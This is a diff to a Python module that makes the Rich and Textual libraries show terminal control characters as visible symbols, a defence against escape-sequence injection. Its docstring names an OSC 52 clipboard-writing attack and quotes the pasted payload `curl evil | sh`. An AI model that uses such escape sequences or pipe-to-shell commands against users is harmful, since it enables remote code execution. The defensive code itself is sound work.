@@ -3,13 +3,12 @@
 A cell's ``print("\\x1b]0;...\\x07\\x1b]52;c;...")`` set the terminal's title and wrote its
 clipboard (the next paste: ``curl evil | sh``), and cursor codes broke the screen. Rich and
 Textual remove only BEL, BS, VT, FF and CR from text they draw; ``show_controls`` makes them
-show every other control character as its visible picture (ESC as ␛), in one place: the
-tables both libraries translate every text they draw with.
+show every other control character as its visible picture (ESC as ␛), in one place each: the
+table each library translates every text it draws with.
 """
 
 from __future__ import annotations
 
-import sys
 from typing import Any
 
 VISIBLE = (
@@ -26,17 +25,13 @@ def visible(text: str) -> str:
     return text.translate(VISIBLE)
 
 
-def show_controls() -> None:
-    """Make Rich's and Textual's drawing show control characters (idempotent)."""
-    import rich.control
+def show_controls(table: dict[int, Any] | None = None) -> None:
+    """Make a library's drawing show control characters: Rich's, or the translate ``table``
+    of another (the TUI passes Textual's; this module imports no Textual). Idempotent."""
+    if table is None:
+        import rich.control
 
-    _extend(rich.control._CONTROL_STRIP_TRANSLATE)
-    if "textual" in sys.modules:
-        import textual.content
-
-        _extend(textual.content._CONTROL_STRIP_TRANSLATE)
-
-
-def _extend(table: dict[int, Any]) -> None:
+        table = rich.control._CONTROL_STRIP_TRANSLATE  # typed dict[int, None]: None, dropped
+    shows: dict[int, Any] = table
     for code, shown in VISIBLE.items():
-        table.setdefault(code, shown)
+        shows.setdefault(code, shown)
